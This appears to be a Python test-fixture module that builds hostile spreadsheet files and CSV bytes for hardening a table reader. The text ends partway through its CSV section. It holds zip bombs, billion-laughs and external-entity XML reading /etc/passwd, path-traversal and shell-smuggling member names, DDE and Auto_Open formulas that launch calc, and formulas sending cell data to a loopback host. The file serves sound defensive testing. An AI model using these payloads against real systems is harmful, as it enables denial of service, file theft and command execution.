"""Hostile tables, built in memory: books from their raw parts, and CSV as bytes.

`BOOKS` and `TEXTS` name a maker for each file; what becomes of it stands in
`test_hostile_books.py` and `test_hostile_csv.py`.
"""

import io
import lzma
import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterable, Mapping
from typing import Any

Maker = Callable[[], bytes]
Parts = dict[str, bytes]

BOOKS: dict[str, Maker] = {}
TEXTS: dict[str, Maker] = {}

MEGABYTE = 1024 * 1024
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
SHEET_ML = "application/vnd.openxmlformats-officedocument.spreadsheetml"
HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'

TYPES = "[Content_Types].xml"
ROOT_RELS = "_rels/.rels"
WORKBOOK = "xl/workbook.xml"
RELS = "xl/_rels/workbook.xml.rels"
STRINGS = "xl/sharedStrings.xml"
STYLES = "xl/styles.xml"
SHEET = "xl/worksheets/sheet1.xml"
CORE = "docProps/core.xml"
CUSTOM = "docProps/custom.xml"
# the parts that a reader of the table has to parse
PARSED_PARTS = (TYPES, WORKBOOK, RELS, STRINGS, STYLES, SHEET, CORE, CUSTOM)

OLE_MARK = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
LAUGHS = (
    '<!DOCTYPE x [<!ENTITY a "ha">'
    + "".join(
        f'<!ENTITY {name} "{f"&{before};" * 10}">'
        for before, name in zip("abcdefghi", "bcdefghij", strict=True)
    )
    + "]>"
)
OUTSIDE = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
PARAMETER = (
    '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://127.0.0.1:9/x.dtd"> %p;'
    '<!ENTITY a "text">]>'
)


# A sound book in parts -----------------------------------------------------------------


def xml(text: str) -> bytes:
    return (HEAD + text).encode()


def text_cell(place: str, text: str) -> str:
    return f'<c r="{place}" t="inlineStr"><is><t>{text}</t></is></c>'


def row(*cells: str, number: int | str = 1) -> str:
    return f'<row r="{number}">{"".join(cells)}</row>'


GOOD_ROWS = row(
    text_cell("A1", "Балыкчы"),
    '<c r="B1" t="s"><v>0</v></c>',
    '<c r="C1"><v>12</v></c>',
)


def sheet(rows: str = GOOD_ROWS, *, before: str = "", after: str = "") -> bytes:
    return xml(
        f'<worksheet xmlns="{MAIN}" xmlns:r="{OFFICE}">{before}'
        f"<sheetData>{rows}</sheetData>{after}</worksheet>"
    )


def strings(*texts: str) -> bytes:
    items = "".join(f"<si><t>{text}</t></si>" for text in texts)
    return xml(f'<sst xmlns="{MAIN}">{items}</sst>')


def styles(formats: str = '<xf numFmtId="0"/><xf numFmtId="14"/>') -> bytes:
    """Style 0 is general, style 1 a date."""
    return xml(
        f'<styleSheet xmlns="{MAIN}"><fonts><font/></fonts>'
        "<fills><fill><patternFill/></fill></fills>"
        '<borders><border/></borders><cellStyleXfs><xf numFmtId="0"/></cellStyleXfs>'
        f"<cellXfs>{formats}</cellXfs></styleSheet>"
    )


def workbook(
    sheets: str = '<sheet name="Sheet1" sheetId="1" r:id="rId1"/>', *, more: str = ""
) -> bytes:
    return xml(
        f'<workbook xmlns="{MAIN}" xmlns:r="{OFFICE}"><sheets>{sheets}</sheets>{more}'
        "</workbook>"
    )


def relations(*targets: tuple[str, str, str], mode: str = "") -> bytes:
    """Relations of a part: id, type, target."""
    inner = "".join(
        f'<Relationship Id="{key}" Type="{OFFICE}/{kind}" Target="{target}"{mode}/>'
        for key, kind, target in targets
    )
    return xml(
        f'<Relationships xmlns="{PACKAGE}/relationships">{inner}</Relationships>'
    )


def content_types(more: str = "", *, main: str = f"{SHEET_ML}.sheet.main+xml") -> bytes:
    overrides = {
        WORKBOOK: main,
        SHEET: f"{SHEET_ML}.worksheet+xml",
        STYLES: f"{SHEET_ML}.styles+xml",
        STRINGS: f"{SHEET_ML}.sharedStrings+xml",
    }
    inner = "".join(
        f'<Override PartName="/{name}" ContentType="{kind}"/>'
        for name, kind in overrides.items()
    )
    return xml(
        f'<Types xmlns="{PACKAGE}/content-types">'
        '<Default Extension="xml" ContentType="application/xml"/>'
        '<Default Extension="bin" ContentType="application/octet-stream"/>'
        '<Default Extension="rels" ContentType='
        f'"application/vnd.openxmlformats-package.relationships+xml"/>{inner}{more}'
        "</Types>"
    )


WORKBOOK_RELATIONS = (
    ("rId1", "worksheet", "worksheets/sheet1.xml"),
    ("rId2", "styles", "styles.xml"),
    ("rId3", "sharedStrings", "sharedStrings.xml"),
)


def good_parts() -> Parts:
    return {
        TYPES: content_types(),
        ROOT_RELS: relations(("rId1", "officeDocument", WORKBOOK)),
        WORKBOOK: workbook(),
        RELS: relations(*WORKBOOK_RELATIONS),
        STRINGS: strings("Ысык-Көл"),
        STYLES: styles(),
        SHEET: sheet(),
        CORE: xml(
            f'<cp:coreProperties xmlns:cp="{PACKAGE}/metadata/core-properties"/>'
        ),
        CUSTOM: xml(
            '<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/'
            'custom-properties"/>'
        ),
    }


def pack(
    parts: Mapping[str, bytes] | Iterable[tuple[str, bytes]],
    method: int = zipfile.ZIP_DEFLATED,
) -> bytes:
    items = parts.items() if isinstance(parts, Mapping) else parts
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", method) as archive:
        for name, data in items:
            # a time of its own would make every run's file another one
            archive.writestr(zipfile.ZipInfo(name), data, method)
    return target.getvalue()


def packed(changed: Mapping[str, bytes | None]) -> bytes:
    """The good book with some parts replaced, added, or (None) left out."""
    parts: dict[str, Any] = good_parts() | dict(changed)
    return pack({name: data for name, data in parts.items() if data is not None})


def good_book() -> bytes:
    return packed({})


def rows_book(rows: str, **around: str) -> bytes:
    return packed({SHEET: sheet(rows, **around)})


def cell_book(cell: str) -> bytes:
    """A book whose only cell is given as XML."""
    return rows_book(row(cell))


def number_book(value: str, *, style: int = 0) -> bytes:
    return cell_book(f'<c r="A1" s="{style}"><v>{value}</v></c>')


def noise(size: int) -> bytes:
    """Bytes that do not pack, the same ones in every run."""
    return random.Random(size).randbytes(size)  # noqa: S311 - not a secret


def with_document_type(part: str, declaration: str) -> bytes:
    """The good book, with a document type and the use of its entity in one part."""
    text = good_parts()[part].decode().replace(HEAD, HEAD + declaration)
    last = text.rindex("</") if not text.endswith("/>") else len(text) - 2
    if text.endswith("/>"):
        name = text.rpartition("<")[2].split()[0]
        text = f"{text[:last]}>&a;</{name}>"
    else:
        text = f"{text[:last]}&a;{text[last:]}"
    return packed({part: text.encode()})


# Packing -------------------------------------------------------------------------------


def gigabyte_cell() -> bytes:
    """One megabyte that unpacks to a cell of one gigabyte."""
    packer = zlib.compressobj(9, wbits=-15)
    head = f'<worksheet xmlns="{MAIN}"><sheetData><row><c><v>'.encode()
    start = packer.compress(head) + packer.flush(zlib.Z_FULL_FLUSH)
    block = packer.compress(b"1" * (16 * MEGABYTE)) + packer.flush(zlib.Z_FULL_FLUSH)
    body = start + block * 64 + packer.flush()
    return with_packed(SHEET, body, method=8, unpacked=len(head) + 1024 * MEGABYTE)


def patched(content: bytes, name: str, **fields: int) -> bytes:
    """An archive whose directory and local header say something else of a member.

    Fields: flags, method, crc, packed, unpacked.
    """
    places = {
        "flags": (8, 6, "<H"),
        "method": (10, 8, "<H"),
        "crc": (16, 14, "<I"),
        "packed": (20, 18, "<I"),
        "unpacked": (24, 22, "<I"),
    }
    data, key = bytearray(content), name.encode()
    # a name stands 30 bytes after the mark in front of the member, 46 in the directory
    local = content.index(key) - 30
    central = content.rindex(key) - 46
    for field, value in fields.items():
        in_central, in_local, form = places[field]
        struct.pack_into(form, data, central + in_central, value)
        struct.pack_into(form, data, local + in_local, value)
    return bytes(data)


def overlapping(times: int = 40) -> bytes:
    """One megabyte that the directory names many times over."""
    name, kernel = "xl/a00.bin", b"\0" * MEGABYTE
    content = pack([*good_parts().items(), (name, kernel)])
    end = content.rindex(b"PK\5\6")
    start, count = content.rindex(b"PK\1\2", 0, end), len(good_parts()) + times
    entry = content[start:end]
    entries = b"".join(
        entry.replace(name.encode(), f"xl/a{number:02}.bin".encode())
        for number in range(times)
    )
    tail = bytearray(content[end:])
    struct.pack_into("<HH", tail, 8, count, count)
    first = content.index(b"PK\1\2")
    struct.pack_into("<I", tail, 12, start - first + len(entries))
    return content[:start] + entries + bytes(tail)


def nested_zips() -> bytes:
    """A zip bomb of five levels that lies in the book as a picture."""
    inner = pack({"0": b"\0" * MEGABYTE})
    for _ in range(4):
        inner = pack({str(number): inner for number in range(10)})
    return packed({"xl/media/image1.zip": inner})


def greedy_lzma() -> bytes:
    """A member whose unpacker asks for a dictionary of 1.5 GB."""
    data = good_parts()[SHEET]
    filters = [{"id": lzma.FILTER_LZMA1, "dict_size": 4096}]
    body = lzma.compress(data, lzma.FORMAT_RAW, filters=filters)
    properties = struct.pack("<BBHBI", 9, 4, 5, 93, 1536 * MEGABYTE)
    return with_packed(
        SHEET, properties + body, method=14, unpacked=len(data), crc=zlib.crc32(data)
    )


def with_packed(name: str, body: bytes, **fields: int) -> bytes:
    """The good book with one member that is packed already, as the fields say."""
    parts = good_parts() | {name: body}
    return patched(pack(parts, zipfile.ZIP_STORED), name, **fields)


def padded(changed: Mapping[str, bytes]) -> bytes:
    """The good book with large parts, and noise enough that the ratio is harmless."""
    size = sum(len(data) for data in changed.values())
    return packed({**changed, "xl/media/noise.bin": noise(size // 60)})


def hostile_names(outside: str = "/tmp/evil-member") -> bytes:  # noqa: S108 - a bait
    """Members that would land elsewhere if anything unpacked them to a disk."""
    names = [
        "../../../../evil-member",
        outside,
        "..\\..\\evil-member",
        "C:\\evil-member",
        '"xl/evil".xml',
        "'evil'",
        "xl/./../../evil-member",
        "xl//evil",
        "\u202eevil",
        "con",
        "~/evil-member",
        "$(touch evil-member)",
        "`id`",
        "x" * 60_000,
        " ",
    ]
    return packed(dict.fromkeys(names, b"evil"))


def twice(name: str) -> bytes:
    """Two members of one name: one program shows the first, another the last."""
    other = sheet(row(text_cell("A1", "another table")))
    marked = pack([*good_parts().items(), ("x" * len(name), other)])
    return marked.replace(b"x" * len(name), name.encode())


BOOKS |= {
    "gigabyte cell": gigabyte_cell,
    "ratio of a thousand": lambda: packed({"xl/a.bin": b"\0" * (20 * MEGABYTE)}),
    "unpacks to 31 MB": lambda: pack(
        {**good_parts(), "xl/a.bin": noise(MEGABYTE) + b"\0" * (30 * MEGABYTE)}
    ),
    "201 members": lambda: packed({f"m{number}": b"x" for number in range(201)}),
    "20 000 members": lambda: packed({f"m{number}": b"" for number in range(20_000)}),
    "overlapping members": overlapping,
    "nested zips": nested_zips,
    "names that lead elsewhere": hostile_names,
    "the sheet twice": lambda: twice(SHEET),
    "the types twice": lambda: twice(TYPES),
    "the sheet again in capitals": lambda: packed({SHEET.upper(): b"<x/>"}),
    "cut in the middle": lambda: good_book()[: len(good_book()) // 2],
    "cut in the directory": lambda: good_book()[:-40],
    "only the mark": lambda: b"PK\3\4",
    "mark and zeros": lambda: b"PK\3\4" + b"\0" * 500,
    "an empty zip": lambda: pack({}),
    "wrong checksum": lambda: patched(good_book(), SHEET, crc=7),
    "says less than it holds": lambda: patched(good_book(), SHEET, unpacked=50),
    "says more than it holds": lambda: patched(good_book(), SHEET, unpacked=5_000),
    "says 3 GB": lambda: patched(good_book(), SHEET, unpacked=3 * 1024 * MEGABYTE),
    "a member under a password": lambda: patched(good_book(), SHEET, flags=1),
    "unknown packing": lambda: patched(good_book(), SHEET, method=97),
    "a greedy unpacker": greedy_lzma,
    "a program before the zip": lambda: b"MZ\x90\0" + noise(500) + good_book(),
    "junk after the zip": lambda: good_book() + b"<script>alert(1)</script>",
}


# XML -----------------------------------------------------------------------------------


def deep(levels: int = 200_000) -> str:
    return "<a>" * levels + "</a>" * levels


def declared(encoding: str, codec: str) -> bytes:
    text = sheet().decode().replace("UTF-8", encoding)
    return packed({SHEET: text.encode(codec)})


for _part in PARSED_PARTS:
    BOOKS[f"laughs in {_part}"] = lambda part=_part: with_document_type(part, LAUGHS)
    BOOKS[f"outside entity in {_part}"] = lambda part=_part: with_document_type(
        part, OUTSIDE
    )

BOOKS |= {
    "outside parameter entity": lambda: with_document_type(SHEET, PARAMETER),
    "laughs in the theme": lambda: packed(
        {"xl/theme/theme1.xml": f"{HEAD}{LAUGHS}<x>&j;</x>".encode()}
    ),
    "a document type without entities": lambda: packed(
        {
            SHEET: sheet().replace(
                b"<worksheet",
                b'<!DOCTYPE worksheet SYSTEM "http://127.0.0.1:9/x.dtd"><worksheet',
            )
        }
    ),
    "one entity, 100 000 times": lambda: packed(
        {
            SHEET: sheet(row(text_cell("A1", "&a;" * 100_000))).replace(
                b"<worksheet", b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">]><worksheet'
            )
        }
    ),
    "200 000 levels in the sheet": lambda: padded({SHEET: sheet(after=deep())}),
    "200 000 levels in a cell": lambda: padded(
        {SHEET: sheet(row(f'<c r="A1">{deep()}</c>'))}
    ),
    "200 000 levels in the styles": lambda: padded({STYLES: styles(deep())}),
    "100 000 attributes": lambda: rows_book(
        "<row {}/>".format(" ".join(f'a{number}=""' for number in range(100_000)))
    ),
    "an XInclude": lambda: rows_book(
        GOOD_ROWS + '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude"'
        ' href="file:///etc/passwd" parse="text"/>'
    ),
    "XML that does not end": lambda: packed({SHEET: sheet()[:-30]}),
    "no XML at all": lambda: packed({SHEET: noise(1000)}),
    "an empty part": lambda: packed({SHEET: b""}),
    "HTML for a sheet": lambda: packed({SHEET: b"<html><br><script>x</script>"}),
    "a sheet in UTF-16": lambda: declared("UTF-16", "utf-16"),
    "a sheet in windows-1251": lambda: declared("windows-1251", "cp1251"),
    "a sheet in UTF-7": lambda: declared("UTF-7", "utf-7"),
    "a sheet in no encoding": lambda: declared("x-none", "utf-8"),
    "UTF-16 that says UTF-8": lambda: declared("UTF-8", "utf-16"),
    "broken UTF-8": lambda: packed(
        {SHEET: sheet().replace("Балыкчы".encode(), b"\xd0\xd0\xff")}
    ),
    "a raw control character": lambda: cell_book(text_cell("A1", "a\x01b")),
    "a NUL by number": lambda: cell_book(text_cell("A1", "a&#0;b")),
    "a lone surrogate by number": lambda: cell_book(text_cell("A1", "a&#xD800;b")),
    "half a surrogate in UTF-8": lambda: packed(
        {SHEET: sheet().replace("Балыкчы".encode(), b"\xed\xa0\x80")}
    ),
    "no letter U+FFFE": lambda: cell_book(text_cell("A1", "a&#xFFFE;b")),
    "escaped control characters": lambda: cell_book(
        text_cell("A1", "a_x0000_b_xD800__x003D_1")
    ),
}


# Cells and rows ------------------------------------------------------------------------


def far_corner() -> bytes:
    return rows_book(
        row(text_cell("A1", "a")) + row(text_cell("XFD1048576", "x"), number=1_048_576)
    )


def many_rows(number: int, inner: str = "") -> str:
    return f"<row>{inner}</row>" * number


def world(tag: str, inner: str) -> bytes:
    return rows_book(GOOD_ROWS, after=f"<{tag}>{inner}</{tag}>")


ALL_ERRORS = ("#REF!", "#N/A", "#DIV/0!", "#NAME?", "#NULL!", "#NUM!", "#VALUE!")

BOOKS |= {
    "the far corner": far_corner,
    "the last column": lambda: cell_book(text_cell("XFD1", "x")),
    "16 384 columns": lambda: rows_book("<row>{}</row>".format("<c><v>1</v></c>" * 16_384)),
    "a dimension over the world": lambda: rows_book(
        GOOD_ROWS, before='<dimension ref="A1:XFD1048576"/>'
    ),
    "a dimension of nonsense": lambda: rows_book(
        GOOD_ROWS, before='<dimension ref="A1:ZZZZZZ99999999999"/>'
    ),
    "merged over the world": lambda: world(
        "mergeCells", '<mergeCell ref="A1:XFD1048576"/>'
    ),
    "20 000 overlapping merges": lambda: world(
        "mergeCells", '<mergeCell ref="A1:XFD1048576"/>' * 20_000
    ),
    "columns over the world": lambda: rows_book(
        GOOD_ROWS, before='<cols><col min="1" max="16384" width="9"/></cols>'
    ),
    "row 0": lambda: rows_book(row(text_cell("A0", "x"), number=0)),
    "row -5": lambda: rows_book(row("<c><v>1</v></c>", number=-5)),
    "a cell in row -1": lambda: cell_book(text_cell("A-1", "x")),
    "row 99 999 999 999": lambda: cell_book(text_cell("A99999999999", "x")),
    "a row number of 5 000 digits": lambda: cell_book(text_cell("A" + "9" * 5_000, "x")),
    "row 1e3": lambda: rows_book(row("<c><v>1</v></c>", number="1e3")),
    "row NaN": lambda: rows_book(row("<c><v>1</v></c>", number="NaN")),
    "column ZZZZ": lambda: cell_book(text_cell("ZZZZ1", "x")),
    "a place without a column": lambda: cell_book(text_cell("1", "x")),
    "rows that do not rise": lambda: rows_book(
        row(text_cell("A3", "third"), number=3)
        + row(text_cell("A1", "first"), number=1)
        + row(text_cell("A2", "second"), number=2)
    ),
    "a cell twice": lambda: rows_book(
        row(text_cell("A1", "shown"), text_cell("A1", "hidden"))
    ),
    "a row twice": lambda: rows_book(
        row(text_cell("A1", "shown")) + row(text_cell("A1", "hidden"))
    ),
    "100 000 empty rows": lambda: padded(
        {SHEET: sheet(GOOD_ROWS + many_rows(100_000))}
    ),
    "100 000 empty cells": lambda: padded(
        {SHEET: sheet(GOOD_ROWS + many_rows(1, "<c/>" * 100_000))}
    ),
    "101 rows": lambda: rows_book(many_rows(101, "<c><v>1</v></c>")),
    "a text of 40 000 letters": lambda: cell_book(text_cell("A1", "ы" * 40_000)),
    "a formula": lambda: cell_book('<c r="A1"><f>1+1</f></c>'),
    "a formula with its value": lambda: cell_book('<c r="A1"><f>1+1</f><v>2</v></c>'),
    "a formula of a text": lambda: cell_book(
        '<c r="A1" t="str"><f>HYPERLINK("http://x")</f><v>x</v></c>'
    ),
    "an array formula": lambda: cell_book(
        '<c r="A1"><f t="array" ref="A1:XFD1048576">ROW()</f><v>1</v></c>'
    ),
    "a shared formula": lambda: rows_book(
        row('<c r="A1"><f t="shared" ref="A1:A2" si="0">B1</f><v>1</v></c>')
        + row('<c r="A2"><f t="shared" si="0"/><v>1</v></c>', number=2)
    ),
    "a shared formula of nobody": lambda: cell_book(
        '<c r="A1"><f t="shared" si="7"/><v>1</v></c>'
    ),
    "a data table": lambda: cell_book(
        '<c r="A1"><f t="dataTable" ref="A1:B2" dt2D="1" r1="C1"/><v>1</v></c>'
    ),
    "an empty formula": lambda: cell_book('<c r="A1"><f/><v>5</v></c>'),
    "a command": lambda: cell_book(
        "<c r=\"A1\"><f>cmd|' /C calc'!A0</f><v>0</v></c>"
    ),
    "25 formulas": lambda: rows_book(many_rows(25, "<c><f>1</f></c>")),
    "text that looks like a formula": lambda: cell_book(text_cell("A1", "=1+1")),
    "text of a lost formula": lambda: cell_book('<c r="A1" t="str"><v>=1+1</v></c>'),
    "all error values": lambda: rows_book(
        "<row>{}</row>".format(
            "".join(f'<c t="e"><v>{error}</v></c>' for error in ALL_ERRORS)
        )
    ),
    "NaN": lambda: number_book("NaN"),
    "Infinity": lambda: number_book("Infinity"),
    "1e999": lambda: number_book("1e999"),
    "-1e999": lambda: number_book("-1e999"),
    "1e-999": lambda: number_book("1e-999"),
    "1E308": lambda: number_book("1E308"),
    "4 000 digits": lambda: number_book("9" * 4_000),
    "5 000 digits": lambda: number_book("9" * 5_000),
    "hexadecimal": lambda: number_book("0x10"),
    "a word as number": lambda: number_book("abc"),
    "an empty number": lambda: number_book(""),
    "an unknown type": lambda: cell_book('<c r="A1" t="zzz"><v>text</v></c>'),
    "a flag of 7": lambda: cell_book('<c r="A1" t="b"><v>7</v></c>'),
    "a flag of nonsense": lambda: cell_book('<c r="A1" t="b"><v>x</v></c>'),
    "a date in the year 4 billion": lambda: number_book("1e12", style=1),
    "a date before the calendar": lambda: number_book("-1000000", style=1),
    "a date of 1e999": lambda: number_book("1e999", style=1),
    "a written date of nonsense": lambda: cell_book(
        '<c r="A1" t="d"><v>2016-13-45</v></c>'
    ),
    "dates from 1904": lambda: packed(
        {
            WORKBOOK: workbook().replace(
                b"<sheets>", b'<workbookPr date1904="1"/><sheets>'
            ),
            SHEET: sheet(row('<c r="A1" s="1"><v>1</v></c>')),
        }
    ),
    "dates from 1900": lambda: number_book("42491", style=1),
    "an unknown style": lambda: number_book("5", style=99_999),
}  # fmt: skip


# Strings and styles --------------------------------------------------------------------


def echo(length: int = 30_000, cells: int = 900) -> bytes:
    """One long text that every cell of a small sheet names."""
    rows = many_rows(cells // 10, '<c t="s"><v>0</v></c>' * 10)
    return packed({STRINGS: strings("ы" * length), SHEET: sheet(rows)})


BOOKS |= {
    "a string out of range": lambda: cell_book('<c r="A1" t="s"><v>99</v></c>'),
    "string -1": lambda: cell_book('<c r="A1" t="s"><v>-1</v></c>'),
    "string x": lambda: cell_book('<c r="A1" t="s"><v>x</v></c>'),
    "no strings": lambda: packed({STRINGS: None}),
    "one string for every cell": echo,
    "1 000 000 strings": lambda: padded({STRINGS: strings(*["x"] * 1_000_000)}),
    "1 000 000 styles": lambda: padded({STYLES: styles("<xf/>" * 1_000_000)}),
    "a string of 1 000 000 letters": lambda: padded({STRINGS: strings("ы" * 1_000_000)}),
}  # fmt: skip


# The book ------------------------------------------------------------------------------


def one_relation(target: str, *, kind: str = "worksheet", mode: str = "") -> bytes:
    """A book whose first relation leads somewhere else."""
    others = WORKBOOK_RELATIONS[1:]
    return packed({RELS: relations(("rId1", kind, target), *others, mode=mode)})


EXTERNAL = ' TargetMode="External"'
SECOND = sheet(row(text_cell("A1", "second")))


def two_sheets(first: str = "", second: str = "") -> bytes:
    """A book of two sheets; the arguments are attributes of them."""
    return packed(
        {
            WORKBOOK: workbook(
                f'<sheet name="One" sheetId="1" r:id="rId1"{first}/>'
                f'<sheet name="Two" sheetId="2" r:id="rId4"{second}/>'
            ),
            RELS: relations(
                *WORKBOOK_RELATIONS, ("rId4", "worksheet", "worksheets/sheet2.xml")
            ),
            "xl/worksheets/sheet2.xml": SECOND,
            TYPES: content_types(
                '<Override PartName="/xl/worksheets/sheet2.xml" '
                f'ContentType="{SHEET_ML}.worksheet+xml"/>'
            ),
        }
    )


def chart_book() -> bytes:
    return packed(
        {
            SHEET: None,
            "xl/chartsheets/sheet1.xml": xml(
                f'<chartsheet xmlns="{MAIN}"><sheetViews>'
                '<sheetView workbookViewId="0"/></sheetViews></chartsheet>'
            ),
            "xl/chartsheets/_rels/sheet1.xml.rels": relations(),
            RELS: relations(
                ("rId1", "chartsheet", "chartsheets/sheet1.xml"),
                *WORKBOOK_RELATIONS[1:],
            ),
        }
    )


def many_sheets(number: int = 2_000) -> bytes:
    """Thousands of sheets in the list, all of them the same part."""
    items = "".join(
        f'<sheet name="s{n}" sheetId="{n}" r:id="rId1"/>' for n in range(1, number)
    )
    return packed({WORKBOOK: workbook(items)})


def external_links() -> bytes:
    link = xml(
        f'<externalLink xmlns="{MAIN}" xmlns:r="{OFFICE}"><externalBook r:id="rId1"/>'
        "</externalLink>"
    )
    return packed(
        {
            WORKBOOK: workbook(
                more='<externalReferences><externalReference r:id="rId9"/>'
                "</externalReferences>"
            ),
            RELS: relations(
                *WORKBOOK_RELATIONS,
                ("rId9", "externalLink", "externalLinks/externalLink1.xml"),
            ),
            "xl/externalLinks/externalLink1.xml": link,
            "xl/externalLinks/_rels/externalLink1.xml.rels": relations(
                ("rId1", "externalLinkPath", "file:////127.0.0.1/share/x.xlsx"),
                mode=EXTERNAL,
            ),
        }
    )


def defined_names(names: str) -> bytes:
    return packed({WORKBOOK: workbook(more=f"<definedNames>{names}</definedNames>")})


def with_macros() -> bytes:
    kind = "application/vnd.ms-office.vbaProject"
    return packed(
        {
            "xl/vbaProject.bin": OLE_MARK + noise(2_000),
            RELS: relations(
                *WORKBOOK_RELATIONS, ("rId8", "vbaProject", "vbaProject.bin")
            ),
            TYPES: content_types(
                f'<Override PartName="/xl/vbaProject.bin" ContentType="{kind}"/>',
                main="application/vnd.ms-excel.sheet.macroEnabled.main+xml",
            ),
        }
    )


def embedded_object() -> bytes:
    return packed(
        {
            "xl/embeddings/oleObject1.bin": OLE_MARK + noise(2_000),
            "xl/activeX/activeX1.bin": OLE_MARK + noise(200),
            "xl/worksheets/_rels/sheet1.xml.rels": relations(
                ("rId1", "oleObject", "../embeddings/oleObject1.bin")
            ),
            SHEET: sheet(
                after='<oleObjects><oleObject progId="Package" shapeId="1" r:id="rId1"/>'
                "</oleObjects>"
            ),
        }
    )


VALIDATION = (
    '<dataValidations count="1"><dataValidation type="list" sqref="A1:XFD1048576">'
    "<formula1>'[http://127.0.0.1:9/x.xlsx]S'!$A$1:$A$9</formula1></dataValidation>"
    "</dataValidations>"
)
CONDITION = (
    '<conditionalFormatting sqref="A1:XFD1048576"><cfRule type="expression" '
    'priority="1"><formula>WEBSERVICE("http://127.0.0.1:9")</formula></cfRule>'
    "</conditionalFormatting>"
)
LINK = '<hyperlinks><hyperlink ref="A1:XFD1048576" r:id="rId1"/></hyperlinks>'


def hyperlinks() -> bytes:
    return packed(
        {
            SHEET: sheet(after=LINK),
            "xl/worksheets/_rels/sheet1.xml.rels": relations(
                ("rId1", "hyperlink", "javascript:alert(1)"), mode=EXTERNAL
            ),
        }
    )


def strict_book() -> bytes:
    """The good book as Excel's "Strict Open XML" writes it."""
    strict = "http://purl.oclc.org/ooxml/"
    return packed(
        {
            name: data.replace(MAIN.encode(), f"{strict}spreadsheetml/main".encode())
            .replace(OFFICE.encode(), f"{strict}officeDocument/relationships".encode())
            for name, data in good_parts().items()
        }
    )  # fmt: skip


def open_document() -> bytes:
    kind = b"application/vnd.oasis.opendocument.spreadsheet"
    return pack(
        {"mimetype": kind, "content.xml": b"<x/>", "META-INF/manifest.xml": b""}
    )


def old_excel(*streams: str) -> bytes:
    """What an old .xls, or a book under a password, looks like from outside."""
    names = b"".join(stream.encode("utf-16-le").ljust(128, b"\0") for stream in streams)
    return OLE_MARK + b"\0" * 504 + names + noise(2_000)


BOOKS |= {
    "no relations of the book": lambda: packed({RELS: None}),
    "no relations of the package": lambda: packed({ROOT_RELS: None}),
    "no types": lambda: packed({TYPES: None}),
    "no workbook": lambda: packed({WORKBOOK: None}),
    "no styles": lambda: packed({STYLES: None}),
    "no sheet": lambda: packed({SHEET: None}),
    "no sheets in the list": lambda: packed({WORKBOOK: workbook("")}),
    "an empty sheet": lambda: rows_book(""),
    "an absolute target": lambda: one_relation("/xl/worksheets/sheet1.xml"),
    "a target outside": lambda: one_relation("../../../../../../etc/passwd"),
    "a target in a file": lambda: one_relation("file:///etc/passwd", mode=EXTERNAL),
    "a target in the net": lambda: one_relation("http://127.0.0.1:9/x", mode=EXTERNAL),
    "the book as its sheet": lambda: one_relation("workbook.xml"),
    "the strings as the sheet": lambda: one_relation("sharedStrings.xml"),
    "an unknown relation": lambda: packed(
        {WORKBOOK: workbook('<sheet name="x" sheetId="1" r:id="rId77"/>')}
    ),
    "2 000 sheets of one part": many_sheets,
    "a hidden sheet first": lambda: two_sheets(first=' state="hidden"'),
    "a very hidden sheet first": lambda: two_sheets(first=' state="veryHidden"'),
    "hidden sheets only": lambda: two_sheets(' state="hidden"', ' state="veryHidden"'),
    "a chart only": chart_book,
    "a dialogue sheet": lambda: one_relation("worksheets/sheet1.xml", kind="dialogsheet"),
    "a macro sheet": lambda: one_relation("worksheets/sheet1.xml", kind="xlMacrosheet"),
    "links to another book": external_links,
    "names that run": lambda: defined_names(
        '<definedName name="_xlnm.Auto_Open">EXEC("calc")</definedName>'
        "<definedName name=\"x\">'[http://127.0.0.1:9/x.xlsx]S'!$A$1</definedName>"
    ),
    "a name of sheet 999": lambda: defined_names(
        '<definedName name="x" localSheetId="999">1</definedName>'
    ),
    "20 000 names": lambda: defined_names(
        "".join(f'<definedName name="n{n}">1</definedName>' for n in range(20_000))
    ),
    "validation from another book": lambda: rows_book(GOOD_ROWS, after=VALIDATION),
    "a condition that calls the net": lambda: rows_book(GOOD_ROWS, after=CONDITION),
    "a link that is a script": hyperlinks,
    "a broken condition": lambda: rows_book(
        GOOD_ROWS, after="<conditionalFormatting/>"
    ),
    "a picture that is missing": lambda: rows_book(
        GOOD_ROWS, after='<drawing r:id="rId42"/>'
    ),
    "macros": with_macros,
    "an embedded program": embedded_object,
    "types of a text document": lambda: packed(
        {TYPES: content_types(main="application/vnd.openxmlformats-officedocument."
                              "wordprocessingml.document.main+xml")}
    ),
    "types without strings": lambda: packed(
        {TYPES: content_types().replace(b"sharedStrings+xml", b"x+xml")}
    ),
    "Strict Open XML": strict_book,
    "an OpenDocument table": open_document,
    "a text document": lambda: pack(
        {TYPES: content_types(), "word/document.xml": b"<x/>"}
    ),
    "a binary book": lambda: pack({TYPES: content_types(), "xl/workbook.bin": b"\x83"}),
    "an old book": lambda: old_excel("Root Entry", "Workbook"),
    "a book under a password": lambda: old_excel("Root Entry", "EncryptedPackage"),
}  # fmt: skip


# CSV -----------------------------------------------------------------------------------

CYRILLIC = "Аты;Саны\r\nБалыкчы;12\r\nЫсык-Көл;7\r\n"
PNG = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\1\0\0\0\1\x08\2\0\0\0\x90wS\xde"
RUN_AT_OPENING = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://127.0.0.1:9/?x="&A1;"x")',
    "'=1+1",
    " =1+1",
)

TEXTS |= {
    "NUL at once": lambda: b"a;b\0c\r\n",
    "NUL after 5 000 letters": lambda: b"x" * 5_000 + b";\0\r\n",
    "NUL in UTF-16": lambda: "a;b\0c\r\n".encode("utf-16"),
    "UTF-16 without a mark": lambda: CYRILLIC.encode("utf-16-le"),
    "UTF-16 of Cyrillic only, without a mark": lambda: ("Ж" * 50).encode("utf-16-be"),
